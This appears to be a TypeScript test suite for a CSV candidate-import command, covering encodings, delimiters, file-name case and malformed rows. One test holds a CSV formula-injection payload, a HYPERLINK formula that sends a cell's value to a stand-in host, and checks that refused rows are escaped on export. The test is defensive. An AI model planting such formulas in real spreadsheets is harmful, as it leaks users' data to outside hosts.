import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { DataSource } from 'typeorm';
import { dataSourceOptions } from '@app/platform/database/data-source.js';
import { newId } from '@app/platform/database/id.js';
import { addImport } from '../../apps/cli/src/commands/import.js';
import { runCommand } from '../lib/command.js';
import { TEST_AUTH_SECRET } from './api.js';
import { testDatabaseUrl } from './database.js';

let dataSource: DataSource;
let root: string;
beforeAll(async () => {
  const url = await testDatabaseUrl();
  Object.assign(process.env, { DATABASE_URL: url, AUTH_SECRET: TEST_AUTH_SECRET });
  dataSource = await new DataSource(dataSourceOptions({ DATABASE_URL: url, DATABASE_POOL: 5 })).initialize();
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'searchlight-shapes-'));
});
afterAll(async () => {
  await dataSource.destroy();
  fs.rmSync(root, { recursive: true });
});

type Files = Readonly<Record<string, string | Buffer>>;

async function imported(files: Files, firm = `Firm ${newId()}`) {
  const folder = fs.mkdtempSync(path.join(root, 'in-'));
  for (const [name, bytes] of Object.entries(files)) fs.writeFileSync(path.join(folder, name), bytes);
  const { status, printed } = await runCommand([addImport], ['import', folder, '--firm', firm, '--json']);
  const { kept, refused, refusals, notices } = JSON.parse(printed);
  const back = path.join(folder, 'refused.csv');
  const names = await dataSource.query(
    `select c.ref, c.name, c.phone from candidate c join firm f on f.id = c.firm_id where f.name = $1 order by c.ref`,
    [firm],
  );
  return {
    ...{ firm, status, kept, refused, notices, names },
    sentences: refusals.map(({ sentence }: { sentence: string }) => sentence),
    back: fs.existsSync(back) ? fs.readFileSync(back) : null,
  };
}
const candidates = (text: string | Buffer): Files => ({ 'candidates.csv': text });

describe('a file of an import', () => {
  it('that is not UTF-8 is refused, and its rows come back with letters that can be read and sent again', async () => {
    const first = await imported(candidates(Buffer.from('candidate_ref,name\r\nC1,Jörg Weiß\r\n', 'latin1')));
    expect(first).toMatchObject({ kept: 0, sentences: ['name is not encoded in UTF-8'] });

    const again = await imported(candidates(first.back ?? ''), first.firm);
    expect(again).toMatchObject({ kept: 1, names: [{ name: 'Jörg Weiß' }] });
  });

  it('keeps nobody whose letters were lost', async () => {
    const lost = await imported(candidates('candidate_ref,name\nC1,J\ufffdrg Wei\ufffd\n'));

    expect(lost).toMatchObject({ kept: 0, refused: 1, sentences: [expect.stringContaining('could not be read')] });
  });

  it.each(['Candidates.CSV', 'CANDIDATES.csv', 'candidates.Csv'])('may be called %s', async (name) => {
    expect(await imported({ [name]: 'candidate_ref,name\nC1,Ann Arbor\n' })).toMatchObject({ kept: 1, notices: [] });
  });

  it('in a folder with one of the same name in capitals is the one that is read, and the other is named', async () => {
    const both = { 'candidates.csv': 'candidate_ref,name\nC1,Ann\n', 'Candidates.CSV': 'candidate_ref,name\nC2,Bob\n' };

    expect(await imported(both)).toMatchObject({
      names: [{ name: 'Ann' }],
      notices: ['Candidates.CSV is not an import file and was ignored'],
    });
  });

  it('may have cells too few, empty ones too many, and rows of blanks', async () => {
    const text = 'candidate_ref,name,city\r\nC1,Ann Arbor,Ulm,\r\nC2,Bob Bee\r\n , ,\r\n';

    expect(await imported(candidates(text))).toMatchObject({
      ...{ status: 0, kept: 2, refused: 0 },
      names: [{ name: 'Ann Arbor' }, { name: 'Bob Bee' }],
    });
  });

  it.each<[string, string | Buffer]>([
    ['semicolons', 'candidate_ref;name\r\nC1;"Arbor, Ann"\r\n'],
    ['a line that names the semicolon', 'sep=;\r\ncandidate_ref;name\r\nC1;Arbor, Ann\r\n'],
    ['tabs, in UTF-16', Buffer.from('\ufeffcandidate_ref\tname\r\nC1\tArbor, Ann\r\n', 'utf16le')],
    ['commas and a byte order mark', '\ufeffcandidate_ref,name\r\nC1,"Arbor, Ann"\r\n'],
  ])('may be written as spreadsheets write it: %s', async (_, bytes) => {
    expect(await imported(candidates(bytes))).toMatchObject({ kept: 1, names: [{ name: 'Arbor, Ann' }] });
  });

  it('that is refused holds no formula, and comes in as it was meant', async () => {
    const text = 'candidate_ref,name,email\nC1,"=HYPERLINK(""http://a.test/?""&A1,""open"")",not-a-mail\n';
    const first = await imported(candidates(text));
    const back = String(first.back);
    expect(back).toContain(`"'=HYPERLINK(`);
    expect(back).not.toMatch(/(^|,)"?[=+\-@\t]/m);

    const again = await imported(candidates(back.replaceAll('not-a-mail', 'a@firm.example')), first.firm);
    expect(again.names).toMatchObject([{ name: '=HYPERLINK("http://a.test/?"&A1,"open")' }]);
  });

  it('whose row has a cell too many comes back with that cell', async () => {
    const { back } = await imported(candidates('candidate_ref,name\nC1,Ann,extra\n'));

    expect(String(back)).toContain(',C1,Ann,extra');
  });
});
